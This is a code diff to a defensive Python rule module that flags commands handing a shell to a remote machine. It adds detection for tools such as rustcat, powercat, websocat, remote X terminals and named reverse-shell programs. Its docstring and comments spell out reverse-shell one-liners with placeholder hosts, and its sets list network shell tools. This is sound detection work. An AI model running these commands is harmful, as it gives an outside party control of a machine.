@@ -3,6 +3,13 @@ other end every power of the user: ``nc -e /bin/sh HOST PORT``, ``ncat -l 4444 -
 ``bash -i >& /dev/tcp/HOST/PORT 0>&1``, ``socat exec:bash tcp:HOST:PORT``, an interactive shell
 piped into ``nc`` (the ``mkfifo`` form), and a shell fed by what ``nc``/``telnet``/``socat``
 receive.  Code in interpreters is read for the same in ``code_reach``.
+
+The same shell handed over by any other program: a netcat's shell option in its own spelling (rustcat's ``rcat
+connect -s bash H P``, ``powercat -c H -p P -e cmd``), a WebSocket relay's exec address (``websocat … sh-c:'sh
+-i'``), a terminal opened on another machine's X display (``xterm -display H:1``, ``DISPLAY=H:0 urxvt``: whoever
+sits at that display types into this machine's shell), and tools whose name says they are shells for another
+machine (``Invoke-PowerShellTcp -Reverse``, ``Invoke-ConPtyShell H P``, ``icmpsh -t H``, dnscat's client,
+gsocket's ``gs-netcat -i``).
 """
 from __future__ import annotations
 
@@ -14,7 +21,7 @@ from aish.safety.program_names import alias
 from aish.safety.winpaths import typed_text
 
 _NETCATS = {"nc", "ncat", "netcat", "nc.traditional", "nc.openbsd", "pwncat", "rustcat", "rcat", "sbd", "cryptcat",
-            "ncat.exe", "nc.exe", "nc64.exe"}
+            "ncat.exe", "nc.exe", "nc64.exe", "powercat", "powercat.ps1"}
 _NETWORK_READERS = _NETCATS | {"telnet", "socat", "openssl", "websocat", "cryptcat", "sbd"}
 _SHELLS = {"sh", "bash", "zsh", "dash", "ksh", "mksh", "ash", "fish", "tcsh", "csh", "busybox", "pwsh", "powershell",
            "python", "python3", "perl", "ruby", "php", "cmd", "cmd.exe"}
@@ -39,9 +46,39 @@ def _runs_shell(command: str) -> bool:
                             re.search(r"\b(ba|z|da|k)?sh\s+-i\b|shell_executable", command) is not None)
 
 
+# X terminals: `-display H:N` (`--display` for the desktops' own) opens the shell's window on another machine.
+_X_TERMINALS = frozenset({"xterm", "uxterm", "rxvt", "urxvt", "rxvt-unicode", "aterm", "eterm", "mlterm", "kterm",
+                          "xfce4-terminal", "gnome-terminal", "konsole", "lxterminal", "mate-terminal", "terminator",
+                          "sakura", "roxterm", "xiterm", "mrxvt", "wterm", "9term", "st"})
+_LOCAL_DISPLAY = re.compile(r"^(unix|localhost|127\.0\.0\.1|::1)?:\d+(\.\d+)?$", re.IGNORECASE)
+# Programs whose name says they are a shell for another machine (reverse or bind), in any make.
+_SHELL_TOOLS = re.compile(r"(rev(erse)?[-_]?shell|shell[-_]?(tcp|udp|icmp|rev)|powershell(tcp|udp|icmp)|conptyshell|"
+                          r"^icmpsh(\.exe)?$|^dnscat2?(-client)?(\.exe)?$|^chashell|^gs-netcat$)", re.IGNORECASE)
+
+
+def _other_display(c: Ctx) -> str:
+    """The X display on another machine a terminal is told to open on (``-display H:1``, ``DISPLAY=H:0``)."""
+    texts = c.texts
+    shown = [texts[k + 1] for k, t in enumerate(texts[:-1]) if t in ("-display", "--display")]
+    shown += [t.split("=", 1)[1] for t in texts if t.startswith("--display=")]
+    shown += [w.text.split("=", 1)[1] for w in c.seg.words if w.text.startswith("DISPLAY=")]
+    return next((d for d in shown if ":" in d and not _LOCAL_DISPLAY.match(d)), "")
+
+
 def rule_shell_handed(c: Ctx) -> Optional[tuple]:
     prog, texts = c.prog.lower(), c.texts
     why = f"hands a shell to another machine: whoever is there runs commands as you ({c.text})"
+    if prog in _X_TERMINALS:
+        display = _other_display(c)
+        return (HIGH, f"opens a terminal on another machine's display ({display}): whoever sits there types "
+                      f"commands here ({c.text})") if display else None
+    if _SHELL_TOOLS.search(prog.removesuffix(".ps1")) and texts and \
+            (not prog.startswith("gs-netcat") or "-i" in texts):
+        return HIGH, why
+    if prog in ("rcat", "rustcat") and any(t in ("-s", "--shell") for t in texts):
+        return HIGH, why  # rustcat's shell option: `rcat connect -s bash H P`
+    if prog == "websocat" and any(re.match(r"^(sh-c|exec|cmd):", t, re.IGNORECASE) for t in texts):
+        return HIGH, why  # `websocat ws://H/ sh-c:'sh -i'`, `websocat -s 8080 exec:bash`
     if prog == "busybox" and texts[:1] == ["nc"]:
         prog, texts = "nc", texts[1:]
     if prog in _NETCATS:
@@ -75,4 +112,8 @@ def rule_shell_handed(c: Ctx) -> Optional[tuple]:
     return None
 
 
-RULES = {p: [rule_shell_handed] for p in _NETCATS | _SHELLS | {"socat", "awk", "gawk", "openssl"}}
+_NAMED = {"invoke-powershelltcp", "invoke-powershelltcponeline", "invoke-powershelludp", "invoke-powershellicmp",
+          "invoke-conptyshell", "icmpsh", "icmpsh.exe", "dnscat", "dnscat2", "dnscat2-client", "dnscat.exe", "chashell",
+          "gs-netcat", "reverse-shell", "revshell", "rustcat", "websocat"}
+RULES = {p: [rule_shell_handed] for p in _NETCATS | _SHELLS | _X_TERMINALS | _NAMED | {"socat", "awk", "gawk",
+                                                                                      "openssl"}}
